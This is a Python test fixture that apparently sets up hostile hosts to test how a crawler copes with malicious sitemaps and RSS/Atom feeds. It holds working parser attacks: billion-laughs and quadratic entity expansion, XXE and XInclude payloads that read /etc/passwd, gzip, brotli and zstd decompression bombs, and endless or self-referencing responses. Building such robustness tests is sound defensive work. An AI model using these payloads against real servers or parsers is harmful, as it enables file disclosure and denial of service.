"""Feeds and sitemaps that are bombs, that lead to themselves, or that are no XML."""

import gzip
from collections.abc import Callable, Iterator
from functools import cache, partial
from html import escape

from hostile_bombs import bomb, gzip_bomb, nested_gzip_bomb
from hostile_http import Answer, Request, chunk, fixed, for_ever, head, http, made, then
from hostile_world import Host, World

_XML = "application/xml"
_SITEMAPS = "http://www.sitemaps.org/schemas/sitemap/0.9"
_MAP = f'<?xml version="1.0"?><urlset xmlns="{_SITEMAPS}">{{}}</urlset>'
_INDEX = f'<?xml version="1.0"?><sitemapindex xmlns="{_SITEMAPS}">{{}}</sitemapindex>'
_RSS = '<?xml version="1.0"?><rss version="2.0"><channel><title>x</title>{}</channel></rss>'
_ATOM = '<feed xmlns="http://www.w3.org/2005/Atom"><title>x</title>{}</feed>'
_LAUGHS = (
    '<!DOCTYPE a [<!ENTITY l0 "ha">'
    + "".join(f'<!ENTITY l{number} "{f"&l{number - 1};" * 10}">' for number in range(1, 12))
    + "]>"
)


Make = Callable[[str, str], str]  # (base URL of the host, URL of an innocent page that some list besides) -> text


def _loc(url: str) -> str:
    return f"<url><loc>{escape(url)}</loc></url>"


def _item(url: str) -> str:
    return f"<item><title>x</title><link>{escape(url)}</link></item>"


@cache
def _large(base: str, number: int) -> bytes:
    return _MAP.format("".join(_loc(f"{base}/m{number}/{page}") for page in range(50_000))).encode()


def _external(file: str, more: str) -> str:
    return f'<!DOCTYPE a [<!ENTITY x SYSTEM "{file}"><!ENTITY % p SYSTEM "{more}"> %p;]>'


def _declared(charset: str) -> Make:
    return lambda base, own: f'<?xml version="1.0" encoding="{charset}"?>{_MAP.format(_loc(own))}'


SITEMAPS: dict[str, Make] = {
    "laughs": lambda base, own: _LAUGHS + _MAP.format(f"{_loc(own)}<url><loc>{base}/&l11;</loc></url>"),
    "quadratic": lambda base, own: (
        f'<!DOCTYPE a [<!ENTITY a "{"a" * 100_000}">]>' + _MAP.format(f"<url><loc>{'&a;' * 90_000}</loc></url>")
    ),
    "external-file": lambda base, own: (
        _external("file:///etc/passwd", "file:///dev/zero") + _MAP.format(f"<url><loc>{base}/&x;</loc></url>")
    ),
    "external-http": lambda base, own: (
        _external(f"{base}/entity", f"{base}/more.dtd") + _MAP.format(f"<url><loc>{base}/&x;</loc></url>")
    ),
    "include": lambda base, own: (
        '<urlset xmlns:xi="http://www.w3.org/2001/XInclude">'
        '<xi:include href="file:///etc/passwd" parse="text"/></urlset>'
    ),
    "stylesheet": lambda base, own: (
        f'<?xml version="1.0"?><?xml-stylesheet href="{base}/entity.xsl"?>{_MAP.format(_loc(own))}'
    ),
    "broken": lambda base, own: _MAP.format(_loc(own))[:-30],
    "empty": lambda base, own: "",
    "text": lambda base, own: "\n".join([own, "http://[::1/"] * 9),
    "open": lambda base, own: "<urlset>" * 200_000,
    "deep": lambda base, own: "<a>" * 300_000,
    "spaces": lambda base, own: "<urlset>" + " " * 7_000_000,
    "attributes": lambda base, own: "<urlset " + " ".join(f"a{number}='1'" for number in range(40_000)) + "/>",
    "long-loc": lambda base, own: _MAP.format(_loc(base + "/" + "x" * 5_000_000)),
    "locs": lambda base, own: "<urlset><url>" + f"<loc>{own}</loc>" * 90_000,
    "namespaces": lambda base, own: "<a:" * 90_000,
    "cdata": lambda base, own: "<urlset><![CDATA[" + "]" * 900_000,
    **{f"charset-{charset}": _declared(charset) for charset in ("utf-16", "utf-7", "rot13", "ebcdic-cp-us")},
}
FEEDS: dict[str, Make] = {
    "20-MB": lambda base, own: _RSS.format(
        _item(own) + f"<item><description>{'words of it ' * 1_700_000}</description></item>"
    ),
    "2-MB": lambda base, own: _RSS.format(
        _item(own) + "".join(_item(f"{base}/feed/{number}") for number in range(28_000))
    ),
    "laughs": lambda base, own: _LAUGHS + _RSS.format(f"<item><link>&l11;</link></item>{_item(own)}"),
    "external": lambda base, own: (
        _external("file:///etc/passwd", "file:///dev/zero") + _RSS.format(f"<item><link>{base}/&x;</link></item>")
    ),
    "deep": lambda base, own: "<rss>" + "<item>" * 100_000,
    "html-in-it": lambda base, own: _RSS.format(
        _item(own) + f"<item><description>{'&lt;div&gt;' * 100_000}</description></item>"
    ),
    "entities": lambda base, own: _RSS.format(f"<item><title>{'&amp;#0;&amp;lt;' * 100_000}</title></item>"),
    "dates": lambda base, own: _RSS.format(f"<item><pubDate>{'9' * 100_000}</pubDate><link>{own}</link></item>" * 9),
    "broken": lambda base, own: _RSS.format(_item(own))[:-40],
    "dotted": lambda base, own: _RSS.format(_item(f"{base}/{'a.' * 100_000}")),
    "empty": lambda base, own: "",
    "open": lambda base, own: "<![CDATA[" * 100_000,
    "base": lambda base, own: (
        '<feed xml:base="http://[::1/" xmlns="http://www.w3.org/2005/Atom"><entry><link href="x"/></entry></feed>'
    ),
    "next": lambda base, own: _ATOM.format(
        f'<link rel="next" href="{base}/feeds/next"/><link rel="self" href="{base}/feeds/next"/>'
    ),
    "json": lambda base, own: '{"version": "https://jsonfeed.org/version/1", "items": ' + "[" * 100_000,
}
RAW: dict[str, Answer] = {  # sitemaps that are no text
    "gzip-bomb": made(lambda: gzip.compress(b"<urlset>") + b"".join(gzip_bomb(0.3)), kind="application/gzip"),
    "gzip-in-gzip": made(nested_gzip_bomb, kind="application/x-gzip"),
    "gzip-cut": made(lambda: gzip.compress(_MAP.format(_loc("/a") * 9).encode())[:-9], kind="application/gzip"),
    "encoded-bomb": bomb("brotli", _XML, gigabytes=1),
    "encoded-bomb-zstd": bomb("zstd", _XML, gigabytes=1),
    "drip": then(fixed(head(f"Content-Type: {_XML}"), b"<urlset>"), for_ever(b" ", seconds=0.5)),
    "endless": then(
        fixed(head(f"Content-Type: {_XML}", "Transfer-Encoding: chunked")), for_ever(chunk(_loc("/a").encode() * 99))
    ),
    "html": fixed(http(b"<main><a href=/good/first>x</a>")),
    "random": made(lambda: bytes(range(256)) * 9_000, kind=_XML),
}


def build(world: World) -> None:
    """Add the hosts."""
    for kind, lists in (("sitemap", SITEMAPS), ("feed", FEEDS)):
        for name, make in lists.items():
            _one(world, kind, name, lambda base, make=make: made(partial(_bytes, make, base), kind=_XML))
    for name, answer in RAW.items():
        _one(world, "sitemap", name, lambda base, answer=answer: answer)
    _many(world)
    _for_ever(world)
    _honest(world)


def _bytes(make: Make, base: str) -> bytes:
    return make(base, f"{base}/good/first").encode()


def _one(world: World, kind: str, name: str, answer: Callable[[str], Answer]) -> None:
    host = world.host(f"{kind}-{name}".lower(), "lists")
    target = f"/{kind}s/{name}"
    host.routes[target] = answer(host.base)
    _names(host, kind, [host.base + target])


def _names(host: Host, kind: str, urls: list[str]) -> None:
    """Let the robots.txt or the home page of a host name these lists; the home page links to them, too."""
    if kind == "sitemap":
        lines = "".join(f"Sitemap: {url}\n" for url in urls)
        host.routes["/robots.txt"] = fixed(http(lines.encode(), kind="text/plain"))
    else:
        host.head += "".join(f'<link rel="alternate" type="application/rss+xml" href="{url}">' for url in urls)
    host.links += urls[:3]


def _many(world: World) -> None:
    """A hundred sitemaps with 50,000 pages each, none of which exists."""
    host = world.host("sitemaps-100", "lists")

    def answer(request: Request) -> Iterator[bytes]:
        number = int(request.target.rpartition("/")[2])
        yield http(gzip.compress(_large(host.base, number), 1), kind="application/gzip")

    for number in range(100):
        host.hostile(f"/maps/{number}", answer, link=False)
    _names(host, "sitemap", [f"{host.base}/maps/{number}" for number in range(100)])


def _for_ever(world: World) -> None:
    """Sitemap indexes and feeds that lead to themselves, to each other, and to ever new ones."""
    host = world.host("sitemap-index", "lists")

    def index(request: Request) -> Iterator[bytes]:
        number = int(request.target.rpartition("/")[2])
        targets = [f"/index/{number}", "/index/0", *(f"/index/{number * 9 + further}" for further in range(1, 10))]
        urls = "".join(f"<sitemap><loc>{host.base}{target}</loc></sitemap>" for target in targets)
        yield http(_INDEX.format(urls).encode(), kind=_XML)

    host.rest = index
    _names(host, "sitemap", [f"{host.base}/index/0"])
    feeds = world.host("feed-of-feeds", "lists")

    def page(request: Request) -> Iterator[bytes]:
        number = len(request.target)
        yield http(f'<link rel="alternate" type="application/rss+xml" href="{"/f" * number}"><main>a page'.encode())

    feeds.rest = page
    feeds.links.append("/f")


def _honest(world: World) -> None:
    """Pages that only a feed or a sitemap knows."""
    host = world.host("honest-lists", "honest", innocent=False)
    only = frozenset(("news",))
    listed = [host.good(f"/listed/{number}", spiders=only, listed=[]) for number in range(9)]
    parts = (
        ("/one.xml", _MAP.format("".join(map(_loc, listed[:2]))).encode(), _XML),
        ("/two.xml.gz", gzip.compress(_MAP.format("".join(map(_loc, listed[2:4]))).encode()), "application/gzip"),
        ("/feed.xml", _RSS.format("".join(map(_item, listed[4:6]))).encode(), "application/rss+xml"),
        ("/index.xml", _INDEX.format(f"<sitemap><loc>{host.base}/three.xml</loc></sitemap>").encode(), _XML),
        ("/three.xml", _MAP.format("".join(map(_loc, listed[6:]))).encode(), _XML),
    )
    for target, body, kind in parts:
        host.hostile(target, fixed(http(body, kind=kind)), link=False)
    _names(host, "sitemap", [f"{host.base}/{name}" for name in ("one.xml", "two.xml.gz", "index.xml")])
    host.links.clear()
    host.head = '<link rel="alternate" type="application/rss+xml" href="/feed.xml">'
